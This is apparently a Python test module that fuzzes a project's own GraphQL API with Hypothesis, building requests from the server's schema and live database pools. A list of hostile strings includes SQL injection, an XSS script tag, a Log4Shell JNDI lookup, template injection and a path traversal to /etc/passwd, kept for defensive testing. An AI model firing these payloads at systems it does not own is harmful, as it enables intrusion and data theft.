"""Hypothesis strategies for whole GraphQL requests, built from the server's SDL.

`schema/schema.graphql` (the SDL the server exports; a contract test keeps it
current) is parsed with graphql-core. For every root field of Query and
Mutation the generator knows the arguments, their types, the input objects and
the selectable fields, so it never needs updating when the schema grows:

- arguments get random and boundary values by type (Int at 0/-1/2^31/2^53,
  BigInt at 2^63, strings empty/huge/with control, bidi and zero-width
  characters, lone surrogates, SQL and LIKE metacharacters, enum values valid
  and not), sent as variables or inline literals, sometimes of the wrong type
  or null where the type forbids it; arguments with a meaning (ids, cursors,
  emails, passwords, invitation tokens, seat totals, proration dates) are
  drawn mostly from pools of live values (`Pools`, refreshed from the
  database between batches) and otherwise malformed on purpose;
- selection sets are random subsets of the fields of each type, nested to a
  random depth (mostly within the server's limit of 10, sometimes beyond),
  with aliases and inline fragments now and then;
- a few requests are malformed at the HTTP level (bodies that are not a JSON
  object, GET mutations, wrong content types, batches, deep nesting, bad
  headers).

Half the requests are "sane": well-typed values aimed at users the operation
can act on, so that they pass validation and change state (invites, accepts,
transfers, seat changes...); the other half anything goes. Which root fields
and which sub-fields are picked is decided by a `random.Random` that Hypothesis
seeds (its own choices favour the first of a list, which would always be the
same few fields); values go through Hypothesis' strategies, which favour
boundaries.

The result is a `FuzzRequest`: method, body or query string, headers, and a
short description for reports.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

from graphql import (
    GraphQLArgument,
    GraphQLEnumType,
    GraphQLInputField,
    GraphQLInputObjectType,
    GraphQLInputType,
    GraphQLList,
    GraphQLNonNull,
    GraphQLObjectType,
    GraphQLSchema,
    build_schema,
    get_named_type,
)
from graphql.pyutils import Undefined
from hypothesis import strategies as st

SDL_PATH = Path(__file__).resolve().parents[2] / "schema" / "schema.graphql"
SCHEMA: GraphQLSchema = build_schema(SDL_PATH.read_text(encoding="utf-8"))

PUBLIC_MUTATIONS = ("login", "acceptInvitation")

# ---------------------------------------------------------------------------
# Values that do not depend on the database

INT_BOUNDARIES = (
    0,
    1,
    -1,
    2,
    3,
    10,
    199,
    200,
    201,
    100_000,
    100_001,
    2**31 - 1,
    2**31,
    -(2**31),
    -(2**31) - 1,
    2**53,
    2**53 + 1,
    -(2**53),
    2**63,
    2**64,
)
BIGINT_BOUNDARIES = (0, 1, -1, 2**31, 2**53, 2**63 - 1, 2**63, -(2**63), -(2**63) - 1, 10**30)

HOSTILE_STRINGS = (
    "",
    " ",
    "   \t  ",
    "\n",
    "\x00",
    "a\x00b",
    "\x1b[31mred\x1b[0m",
    "\x7f",
    "\u202eevil\u202c",  # bidi override
    "\u200b",  # zero-width space
    "\ufeff",
    "\u2028",
    "שלום עולם",  # RTL
    "مرحبا",
    "名前テスト",
    "🙂" * 20,
    "e\u0301\u0301\u0301",  # combining marks
    "\ud800",  # lone surrogate (not encodable as UTF-8)
    "\udfff\ud800",
    "' OR 1=1 --",
    "'; DROP TABLE users; --",
    "%",
    "_",
    "%_%",
    "\\",
    "\\%",
    '"',
    "<script>alert(1)</script>",
    "${jndi:ldap://example.com/a}",
    "{{7*7}}",
    "../../etc/passwd",
    "null",
    "undefined",
    "NaN",
    "0",
    "-1",
    "a" * 99,
    "a" * 100,
    "a" * 101,
    "b" * 200,
    "b" * 201,
    "c" * 320,
    "c" * 321,
)
CHARS = ("x", "é", "\u202e", "\x00", "🙂", "名", " ", "%")
BIG_SIZES = (1_000, 10_000, 100_000, 300_000)

MALFORMED_IDS: tuple[Any, ...] = (
    "",
    " ",
    "0",
    "-1",
    "+1",
    "1.0",
    "1e3",
    "0x1",
    "٣",  # Arabic-Indic digit: str.isdigit() is True
    "１",  # full-width digit
    "²",
    "2147483647",
    "2147483648",
    "9" * 19,
    "9" * 400,
    " 1",
    "1 ",
    "1\x00",
    "abc",
    "VXNlcjox",
    "null",
    0,
    -1,
    2**31,
    2**53,
    1.5,
    True,
)

EMAIL_VARIANTS = (
    "plainaddress",
    "a@b",
    "a@@example.com",
    "@example.com",
    "a@example.com.",
    " spaced@example.com ",
    "用户@例子.广告",
    "üñî@exämple.com",
    "a+tag@example.com",
    "x" * 64 + "@example.com",
    "x" * 65 + "@example.com",
    "y" * 310 + "@example.com",
    "a\x00@example.com",
    "a\n@example.com",
    '"quoted local"@example.com',
    "a@[127.0.0.1]",
)

DATETIME_GARBAGE: tuple[Any, ...] = (
    "",
    "now",
    "2026-13-01T00:00:00Z",
    "2026-02-30T00:00:00Z",
    "2026-03-10",
    "2026-03-10T12:00:00",
    "0001-01-01T00:00:00+01:00",
    "0001-01-01T00:00:00Z",
    "9999-12-31T23:59:59-01:00",
    "9999-12-31T23:59:59Z",
    "2026-03-10T12:00:00.123456789Z",
    "2026-03-10T12:00:00+25:00",
    "2026-03-10T12:00:00+23:59",
    "1e9",
    12345,
    1.5,
    True,
)

CURSOR_GARBAGE = (
    "",
    ".",
    "..",
    "a.b",
    "a.b.c",
    "====.====",
    "!!!.???",
    "WyJ1c2VycyIsbnVsbCwxXQ.AAAAAAAAAAAAAAAA",
    "WyJhdWRpdCIsbnVsbCwtMV0.AAAA",
    "A" * 999 + ".",
    "A" * 2000 + ".B",
    "\x00.\x00",
    "\ud800.x",
)

IDEMPOTENCY_KEYS = ("k-1", "k-2", "k-3", "", " ", "é", "x" * 255, "x" * 256, "\x7f")


@st.composite
def idempotency_key(draw: Callable[..., Any]) -> str:
    """Mostly a fresh key, sometimes one used before (replay or REUSED), or a bad one."""
    if draw(st.integers(0, 3)) > 0:
        return f"key-{draw(st.integers(0, 10**6))}"
    return str(draw(st.sampled_from(IDEMPOTENCY_KEYS)))


JSON_GARBAGE: st.SearchStrategy[Any] = st.one_of(
    st.none(),
    st.booleans(),
    st.sampled_from(INT_BOUNDARIES),
    st.floats(allow_nan=False, allow_infinity=False),
    st.sampled_from(HOSTILE_STRINGS[:20]),
    st.just([]),
    st.just([1, "a"]),
    st.just({}),
    st.just({"a": 1}),
)


def _big_string(draw: Callable[..., Any]) -> str:
    return str(draw(st.sampled_from(CHARS))) * int(draw(st.sampled_from(BIG_SIZES)))


@st.composite
def any_string(draw: Callable[..., Any]) -> str:
    kind = draw(st.integers(0, 9))
    if kind <= 4:
        return str(draw(st.sampled_from(HOSTILE_STRINGS)))
    if kind <= 7:
        return str(draw(st.text(max_size=40)))
    if kind == 8:
        return str(draw(st.text(st.characters(codec="utf-8"), min_size=1, max_size=8))) * 30
    return _big_string(draw)


@st.composite
def any_int(draw: Callable[..., Any]) -> int:
    if draw(st.booleans()):
        return int(draw(st.sampled_from(INT_BOUNDARIES)))
    return int(draw(st.integers(-(2**40), 2**40)))


# ---------------------------------------------------------------------------
# Values from the live state


@dataclass
class Pools:
    """Live values to draw from; refreshed from the database before each batch."""

    now: datetime
    user_ids: list[str] = field(default_factory=list)
    foreign_user_ids: list[str] = field(default_factory=list)
    # By "Type.field" of the argument: the users that operation can succeed on
    # (DISABLED for assignLicense, ENABLED non-owners for transferOwnership, ...).
    fitting_user_ids: dict[str, list[str]] = field(default_factory=dict)
    api_token_ids: list[str] = field(default_factory=list)
    account_ids: list[str] = field(default_factory=list)
    emails: list[str] = field(default_factory=list)
    passwords: list[str] = field(default_factory=list)
    invitation_tokens: list[str] = field(default_factory=list)  # current, of PENDING ones
    stale_tokens: list[str] = field(default_factory=list)  # superseded, used, revoked, expired
    cursors: list[str] = field(default_factory=list)
    seats_total: int = 5
    seats_in_use: int = 3
    agreement_version: str = ""

    def remember_cursor(self, cursor: str) -> None:
        if cursor not in self.cursors:
            self.cursors.append(cursor)
            del self.cursors[:-300]


_INDEX = st.integers(0, 2**20)


@dataclass
class ValueMaker:
    """Draws argument values; the `semantic` table maps an argument or input
    field name (in its context) to a generator that knows what it means.

    `sane`: values that pass type coercion and mostly validation (live ids,
    valid emails, realistic names), so that requests reach the business rules
    and change state; otherwise anything goes. In each generator the hostile
    branches are the highest choices, which a sane request never draws.

    Live values are chosen by drawing an index and reducing it modulo the
    pool's size, never with `sampled_from(pool)`: the choices Hypothesis sees
    must not depend on the database (it checks that a replayed prefix draws
    the same kinds of values), only the values they select do.
    """

    draw: Callable[..., Any]
    pools: Pools
    sane: bool = False

    def choose(self, values: Sequence[Any], fallback: Any) -> Any:
        index = int(self.draw(_INDEX))
        return values[index % len(values)] if values else fallback

    def ladder(self, top: int, sane_top: int) -> int:
        return int(self.draw(st.integers(0, sane_top if self.sane else top)))

    def user_id(self, context: str = "") -> Any:
        choice = self.ladder(9, 7)
        # A sane request mostly aims at a user the operation can act on.
        fitting = self.pools.fitting_user_ids.get(context, [])
        if self.sane and choice <= 4:
            return self.choose(fitting or self.pools.user_ids, "1")
        if choice <= 5:
            return self.choose(self.pools.user_ids, "1")
        if choice <= 7:
            return self.choose(self.pools.foreign_user_ids, "2")
        return self.draw(st.sampled_from(MALFORMED_IDS))

    def api_token_id(self) -> Any:
        if self.ladder(3, 2) <= 2:
            return self.choose(self.pools.api_token_ids, "1")
        return self.draw(st.sampled_from(MALFORMED_IDS))

    def account_id(self) -> Any:
        if self.ladder(2, 1) <= 1:
            return self.choose(self.pools.account_ids, "1")
        return self.draw(st.sampled_from(MALFORMED_IDS))

    def cursor(self) -> Any:
        choice = self.ladder(9, 4)
        if choice <= 4:
            return self.choose(self.pools.cursors, None)
        if choice <= 6:
            cursor = str(self.choose(self.pools.cursors, "WyJ1c2VycyIsbnVsbCwxXQ.AAAA"))
            mutation = self.draw(st.integers(0, 4))
            index = int(self.draw(_INDEX)) % len(cursor)
            if mutation == 0:
                return cursor[:-1]
            if mutation == 1:
                return cursor + "A"
            if mutation == 2:
                payload, _, tag = cursor.partition(".")
                return f"{tag}.{payload}"
            if mutation == 3:
                flipped = "B" if cursor[index : index + 1] == "A" else "A"
                return cursor[:index] + flipped + cursor[index + 1 :]
            return cursor.upper()
        return self.draw(st.one_of(st.sampled_from(CURSOR_GARBAGE), any_string()))

    def first(self) -> Any:
        if self.ladder(1, 0) == 0:
            return self.draw(st.sampled_from((1, 2, 3, 50, 199, 200)))
        return self.draw(any_int())

    def seat_total(self) -> Any:
        total, in_use = self.pools.seats_total, self.pools.seats_in_use
        near = (total - 3, total - 2, total - 1, total, total + 1, total + 2, total + 5)
        choice = self.ladder(5, 3)
        if choice <= 2:
            return max(1, self.choose(near, total))
        if choice == 3:
            return max(1, self.choose((in_use - 1, in_use), in_use))
        if choice == 4:
            return self.draw(st.sampled_from((0, 1, 100_000, 100_001)))
        return self.draw(any_int())

    def email(self, *, fresh: bool = False) -> Any:
        choice = self.ladder(9, 6)
        if choice <= (1 if fresh and self.sane else 3):
            address = str(self.choose(self.pools.emails, "nobody@example.com"))
            return address.upper() if self.draw(st.booleans()) else address
        if choice <= 6:
            return f"fuzz{self.draw(st.integers(0, 10**6))}@example.com"
        if choice <= 8:
            return self.draw(st.sampled_from(EMAIL_VARIANTS))
        return self.draw(any_string())

    def password(self) -> Any:
        choice = self.ladder(5, 2)
        if choice <= 2:
            return self.choose(self.pools.passwords, "correct horse battery staple")
        if choice == 3:
            return self.draw(st.sampled_from(("short", "x" * 9, "x" * 10, "x" * 256, "x" * 257)))
        return self.draw(any_string())

    def invitation_token(self) -> Any:
        choice = self.ladder(5, 2)
        if choice <= 1:
            return self.choose(self.pools.invitation_tokens, "x" * 43)
        if choice == 2:
            return self.choose(self.pools.stale_tokens, "x" * 43)
        if choice == 3:
            return self.draw(st.sampled_from(("x" * 43, "A" * 200, "A" * 201, "a.b", "%00")))
        return self.draw(any_string())

    def agreement_version(self) -> Any:
        if self.ladder(4, 0) == 0 or self.sane:
            return self.pools.agreement_version
        return self.draw(st.one_of(st.sampled_from(("2026-11-01 ", "2025-01-01")), any_string()))

    def proration_date(self) -> Any:
        if self.ladder(4, 2) <= 2:
            offsets = (0, 1, 59, 300, 599, 600, 601, 3600, -1, -60, 86_400 * 400)
            delta = timedelta(seconds=self.draw(st.sampled_from(offsets)))
            at = self.pools.now - delta
            zone = self.draw(st.sampled_from(("Z", "+00:00", "+14:00", "-12:00", "+05:30")))
            if zone == "Z":
                return at.astimezone(UTC).isoformat().replace("+00:00", "Z")
            hours, _, minutes = zone[1:].partition(":")
            sign = 1 if zone[0] == "+" else -1
            offset = timedelta(hours=int(hours), minutes=int(minutes)) * sign
            return at.astimezone(timezone(offset)).isoformat()
        return self.draw(st.one_of(st.sampled_from(DATETIME_GARBAGE), any_string()))

    def bigint(self) -> Any:
        choice = self.ladder(2, 1)
        if choice == 0:
            return self.draw(st.integers(0, 10**6))
        if choice == 1:
            return self.draw(st.sampled_from(BIGINT_BOUNDARIES))
        return self.draw(st.sampled_from((1.5, 1e20, "12", -0.0)))

    def search(self) -> Any:
        if self.ladder(1, 0) == 0:
            address = str(self.choose(self.pools.emails, "example"))
            start = int(self.draw(_INDEX)) % len(address)
            return address[start : start + self.draw(st.integers(1, 6))]
        return self.draw(any_string())

    def name(self) -> Any:
        if self.ladder(3, 2) <= 2:
            first = self.draw(
                st.sampled_from(("Ann", "Bo", "Zoë", "José", "Łukasz", "Nguyễn", "O'Brien"))
            )
            return f"{first} {self.draw(st.integers(0, 999))}"
        return self.draw(any_string())

    # -- by name

    def semantic(self, context: str, name: str) -> Callable[[], Any] | None:
        if name == "userId" or (
            name == "id" and context in ("Mutation.updateUser", "Account.user")
        ):
            return lambda: self.user_id(context)
        if name == "id" and context == "Mutation.revokeApiToken":
            return self.api_token_id
        table: dict[str, Callable[[], Any]] = {
            "accountId": self.account_id,
            "after": self.cursor,
            "first": self.first,
            "total": self.seat_total,
            "email": (lambda: self.email(fresh=True))
            if context == "InviteUserInput"
            else self.email,
            "password": self.password,
            "token": self.invitation_token,
            "agreementVersion": self.agreement_version,
            "prorationDate": self.proration_date,
            "expectedAmountDueCents": self.bigint,
            "search": self.search,
            "firstName": self.name,
            "lastName": self.name,
            "name": self.name,
            "qualification": self.name,
            "acceptAgreement": lambda: self.draw(st.sampled_from((True, True, True, False))),
        }
        return table.get(name)

    # -- by type

    def value(self, context: str, name: str, type_: GraphQLInputType) -> Any:
        """A value for an argument or input field: mostly well-typed, sometimes not."""
        nullable = not isinstance(type_, GraphQLNonNull)
        roll = self.draw(st.integers(0, 99))
        if self.sane:
            if nullable and roll < 5:
                return None
        elif roll < 3:
            return self.draw(JSON_GARBAGE)  # type confusion
        elif roll < 6 or (nullable and roll < 12):
            return None  # null, allowed or not
        inner = type_.of_type if isinstance(type_, GraphQLNonNull) else type_
        if isinstance(inner, GraphQLList):
            size = self.draw(st.integers(0, 3))
            return [self.value(context, name, inner.of_type) for _ in range(size)]
        if isinstance(inner, GraphQLInputObjectType):
            return self.input_object(inner)
        special = self.semantic(context, name)
        if special is not None:
            return special()
        if isinstance(inner, GraphQLEnumType):
            values = sorted(inner.values)
            if self.ladder(9, 8) <= 8:
                return self.draw(st.sampled_from(values))
            return self.draw(st.sampled_from(("owner", "OWNERX", "", "NAME ASC", "1")))
        scalar = inner.name
        if scalar == "Int":
            return self.draw(any_int())
        if scalar == "BigInt":
            return self.bigint()
        if scalar == "Boolean":
            return self.draw(st.booleans())
        if scalar == "Float":
            return self.draw(st.floats(allow_nan=False, allow_infinity=False))
        if scalar == "ID":
            return self.user_id()
        if scalar == "DateTime":
            return self.proration_date()
        return self.draw(any_string())

    def input_object(self, type_: GraphQLInputObjectType) -> dict[str, Any]:
        fields: dict[str, GraphQLInputField] = type_.fields
        result: dict[str, Any] = {}
        for field_name in sorted(fields):
            input_field = fields[field_name]
            required = isinstance(input_field.type, GraphQLNonNull)
            keep = self.draw(st.integers(0, 99)) < (97 if required else 50)
            if keep or (required and self.sane):
                result[field_name] = self.value(type_.name, field_name, input_field.type)
        if self.ladder(49, 48) == 49:
            result["unknownField"] = 1
        return result


# ---------------------------------------------------------------------------
# Documents


def graphql_literal(value: Any, type_: GraphQLInputType | None) -> str:
    """`value` written inline in a document (wrong types stay wrong, on purpose)."""
    inner = get_named_type(type_) if type_ is not None else None
    if value is None:
        return "null"
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return json.dumps(value)
    if isinstance(value, str):
        if isinstance(inner, GraphQLEnumType) and value.isidentifier():
            return value
        return json.dumps(value)  # JSON string escapes are GraphQL string escapes
    if isinstance(value, list):
        item_type = None
        if type_ is not None:
            unwrapped = type_.of_type if isinstance(type_, GraphQLNonNull) else type_
            item_type = unwrapped.of_type if isinstance(unwrapped, GraphQLList) else None
        return "[" + ", ".join(graphql_literal(item, item_type) for item in value) + "]"
    if isinstance(value, dict):
        fields = inner.fields if isinstance(inner, GraphQLInputObjectType) else {}
        parts = []
        for key, item in value.items():
            field_type = fields[key].type if key in fields else None
            parts.append(f"{key}: {graphql_literal(item, field_type)}")
        return "{" + ", ".join(parts) + "}"
    return json.dumps(str(value))


@dataclass
class DocumentBuilder:
    """Writes the document. Fields are picked with `rnd` (uniformly): Hypothesis'
    own choices favour the first of a list, which would be the same few fields."""

    draw: Callable[..., Any]
    values: ValueMaker
    rnd: random.Random
    variables: dict[str, Any] = field(default_factory=dict)
    definitions: list[str] = field(default_factory=list)
    aliases: int = 0

    def arguments(self, context: str, args: dict[str, GraphQLArgument]) -> str:
        parts = []
        for arg_name in sorted(args):
            arg = args[arg_name]
            required = isinstance(arg.type, GraphQLNonNull) and arg.default_value is Undefined
            roll = self.draw(st.integers(0, 99))
            if required and roll == 0 and not self.values.sane:
                continue  # a required argument left out: a validation error
            if not required and roll < 45:
                continue
            value = self.values.value(context, arg_name, arg.type)
            if self.draw(st.integers(0, 6)) == 0:
                parts.append(f"{arg_name}: {graphql_literal(value, arg.type)}")
            else:
                variable = f"v{len(self.variables)}"
                declared = str(arg.type)
                mangle = self.values.ladder(39, 36)
                if mangle == 37:
                    declared = declared.rstrip("!")
                elif mangle == 38:
                    declared = "String!"
                elif mangle == 39:
                    declared = f"[{declared}]"
                self.definitions.append(f"${variable}: {declared}")
                if self.values.ladder(29, 28) <= 28:
                    self.variables[variable] = value
                parts.append(f"{arg_name}: ${variable}")
        return f"({', '.join(parts)})" if parts else ""

    def selection_set(self, type_: GraphQLObjectType, depth: int, max_depth: int) -> str:
        fields = type_.fields
        names = sorted(fields)
        picked = self.rnd.sample(names, self.rnd.randint(1, min(4, len(names))))
        parts: list[str] = []
        for field_name in picked:
            graphql_field = fields[field_name]
            named = get_named_type(graphql_field.type)
            alias = ""
            if self.draw(st.integers(0, 14)) == 0:
                self.aliases += 1
                alias = f"a{self.aliases}: "
            args = self.arguments(f"{type_.name}.{field_name}", graphql_field.args)
            if isinstance(named, GraphQLObjectType):
                if depth + 1 > max_depth:
                    continue
                inner = self.selection_set(named, depth + 1, max_depth)
                parts.append(f"{alias}{field_name}{args} {inner}")
            else:
                parts.append(f"{alias}{field_name}{args}")
        if not parts:
            parts.append("__typename")
        if len(parts) > 1 and self.draw(st.integers(0, 14)) == 0:
            parts = [*parts[:-1], f"... on {type_.name} {{ {parts[-1]} }}"]
        return "{ " + " ".join(parts) + " }"


ROLE_NONE = "none"


@dataclass(frozen=True)
class FuzzRequest:
    method: str
    headers: dict[str, str]
    body: bytes | None = None
    params: dict[str, str] | None = None
    kind: str = "graphql"  # graphql | raw
    operation_type: str = ""
    root_fields: tuple[str, ...] = ()

    def describe(self) -> str:
        shown = (self.body or b"").decode("utf-8", "replace") if self.body else str(self.params)
        if len(shown) > 1500:
            shown = shown[:1500] + f"… ({len(shown)} characters)"
        return f"{self.method} {self.kind} {self.root_fields} headers={self.headers} {shown}"


def encode_body(payload: Any) -> bytes:
    # ensure_ascii: lone surrogates travel as \ud800 escapes (valid JSON text).
    return json.dumps(payload, ensure_ascii=True).encode("ascii")


def _deep_selection(depth: int) -> str:
    return "{ viewer " + "{ licenseHistory { assignedBy " * depth + "{ id }" + " } }" * depth + " }"


RAW_BODIES: tuple[tuple[str, bytes], ...] = (
    ("application/json", b""),
    ("application/json", b"{"),
    ("application/json", b"null"),
    ("application/json", b"[]"),
    ("application/json", b'"query"'),
    ("application/json", b"1e999"),
    ("application/json", b'{"query": 1}'),
    ("application/json", b'{"query": null}'),
    ("application/json", b'{"query": "{ viewer { id } }", "variables": "x"}'),
    ("application/json", b'{"query": "{ viewer { id } }", "variables": [1]}'),
    ("application/json", b'{"query": "{ viewer { id } }", "operationName": 5}'),
    ("application/json", b'{"query": "{ viewer { id } }", "extensions": "x"}'),
    ("application/json", b'{"query": "query A { viewer { id } } query B { account { id } }"}'),
    ("application/json", b'{"query": "query A { viewer { id } }", "operationName": "B"}'),
    ("application/json", b'[{"query": "{ viewer { id } }"}, {"query": "{ account { id } }"}]'),
    ("application/json", b"[" * 100_000 + b"]" * 100_000),
    ("application/json", b'{"query": "' + b"{a" * 3000 + b'"}'),
    ("application/json", encode_body({"query": _deep_selection(200)})),
    ("application/json", encode_body({"query": "{ " + "a: viewer { id } " * 40 + "}"})),
    ("application/json", encode_body({"query": "{ viewer { id } }" + " " * 900_000})),
    ("application/json", encode_body({"query": "{ viewer { id } }", "pad": "x" * 1_100_000})),
    ("application/json", b'{"query": "{ viewer { id } }"}\xff'),
    ("application/json", '{"query": "{ viewer { id } }"}'.encode("utf-16")),
    ("application/json", encode_body({"query": "{ __schema { types { name } } }"})),
    ("application/json", encode_body({"query": '{ __type(name: "User") { name } }'})),
    ("application/json", encode_body({"query": "subscription { viewer { id } }"})),
    ("application/json", encode_body({"query": "mutation { nothing }"})),
    ("application/json", encode_body({"query": "{ viewer { id } }", "variables": {"x": "\ud800"}})),
    ("application/json", b'{"query": "mutation { logout { errors { code } } }", "variables": [1]}'),
    ("application/json", b'{"query": "mutation { logout { errors { code } } }", "variables": "x"}'),
    ("application/json", b'{"query": "mutation { logout { errors { code } } }", "variables": 7}'),
    (
        "application/json",
        b'{"query": "mutation { logout { errors { code } } }", "operationName": []}',
    ),
    (
        "application/json",
        encode_body(
            {"query": "mutation { logout { errors { code } } }", "variables": {"\ud800": 1}}
        ),
    ),
    ("text/plain", b'{"query": "{ viewer { id } }"}'),
    ("application/graphql", b"{ viewer { id } }"),
    ("application/x-www-form-urlencoded", b"query=%7B+viewer+%7B+id+%7D+%7D"),
    ("multipart/form-data; boundary=x", b"--x\r\n\r\n--x--"),
    ("", b'{"query": "{ viewer { id } }"}'),
)

RAW_GETS: tuple[dict[str, str], ...] = (
    {"query": "{ viewer { id } }"},
    {"query": "{ account { id name } }"},
    {"query": "mutation { logout { errors { code } } }"},
    {"query": "{ viewer { id } }", "variables": "{"},
    {"query": "{ viewer { id } }", "variables": "[]"},
    {
        "query": "query($s: String) { account { users(filter: {search: $s}) { totalCount } } }",
        "variables": '{"s": "\\ud800"}',
    },
    {"query": ""},
    {"query": "{"},
    {},
)

BAD_AUTHORIZATIONS = (
    "Bearer",
    "Bearer ",
    "Bearer  ",
    "Basic dXNlcjpwYXNz",
    "bearer lic_",
    "Bearer lic_" + "A" * 43,
    "Bearer " + "A" * 43,
    "Bearer " + "A" * 201,
    "Bearer " + "A" * 5000,
    "Token abc",
    "Bearer é",
)


@st.composite
def requests(
    draw: Callable[..., Any],
    pools: Pools,
    token: str | None,
    *,
    allow_public: bool = True,
) -> FuzzRequest:
    """One request by the holder of `token` (None: no token)."""
    headers: dict[str, str] = {}
    if token is not None:
        headers["Authorization"] = f"Bearer {token}"
    elif draw(st.integers(0, 4)) == 0:
        headers["Authorization"] = draw(st.sampled_from(BAD_AUTHORIZATIONS))

    sane = draw(st.booleans())
    if not sane and draw(st.integers(0, 14)) == 0:
        if draw(st.integers(0, 3)) == 0:
            return FuzzRequest("GET", headers, params=draw(st.sampled_from(RAW_GETS)), kind="raw")
        content_type, body = draw(st.sampled_from(RAW_BODIES))
        if content_type:
            headers["Content-Type"] = content_type
        if draw(st.integers(0, 2)) == 0:
            headers["Idempotency-Key"] = draw(idempotency_key())
        return FuzzRequest("POST", headers, body=body, kind="raw")

    rnd = draw(st.randoms(use_true_random=True))
    values = ValueMaker(draw, pools, sane=sane)
    builder = DocumentBuilder(draw, values, rnd)
    # Mostly mutations: they change the state the invariants are about. The
    # public ones (login, acceptInvitation) ignore the bearer: mostly without one.
    is_mutation = rnd.random() < 0.6
    public_only = allow_public and rnd.random() < (0.65 if token is None else 0.05)
    root = SCHEMA.mutation_type if is_mutation or public_only else SCHEMA.query_type
    assert root is not None
    if public_only:
        is_mutation, names = True, list(PUBLIC_MUTATIONS)
    else:
        names = [name for name in sorted(root.fields) if name not in PUBLIC_MUTATIONS]
    count = rnd.choice((1, 1, 1, 2)) if is_mutation else rnd.randint(1, 3)
    picked = rnd.sample(names, min(count, len(names)))
    depths = (1, 2, 3, 3, 4, 4, 5, 6, 7, 8, 9, 10, 11, 12)
    max_depth = draw(st.sampled_from(depths[:10] if sane else depths))
    parts = []
    for field_name in picked:
        graphql_field = root.fields[field_name]
        args = builder.arguments(f"{root.name}.{field_name}", graphql_field.args)
        named = get_named_type(graphql_field.type)
        inner = ""
        if isinstance(named, GraphQLObjectType):
            inner = " " + builder.selection_set(named, 1, max_depth)
            if is_mutation and "errors" in named.fields and draw(st.integers(0, 4)) > 0:
                # Mostly ask for the refusal, to check it (merges with any other `errors`).
                inner = inner[: -len("}")] + "errors { code field message } }"
        parts.append(f"{field_name}{args}{inner}")
    keyword = "mutation" if is_mutation else "query"
    naming = draw(st.integers(0, 9))
    operation_name = f"Fuzz{draw(st.integers(0, 99))}" if naming >= 5 else None
    definitions = f"({', '.join(builder.definitions)})" if builder.definitions else ""
    header = f"{keyword} {operation_name or ''}{definitions}".rstrip()
    if header == "query" and draw(st.booleans()):
        header = ""  # the shorthand form
    document = f"{header} {{ {' '.join(parts)} }}".strip()
    payload: dict[str, Any] = {"query": document}
    if builder.variables or draw(st.booleans()):
        payload["variables"] = builder.variables
    if operation_name is not None and naming >= 6:
        payload["operationName"] = operation_name if naming < 9 or sane else "Elsewhere"
    if is_mutation and draw(st.integers(0, 9)) == 0:
        headers["Idempotency-Key"] = draw(idempotency_key())
    headers["Content-Type"] = "application/json"
    return FuzzRequest(
        "POST",
        headers,
        body=encode_body(payload),
        operation_type=keyword,
        root_fields=tuple(picked),
    )
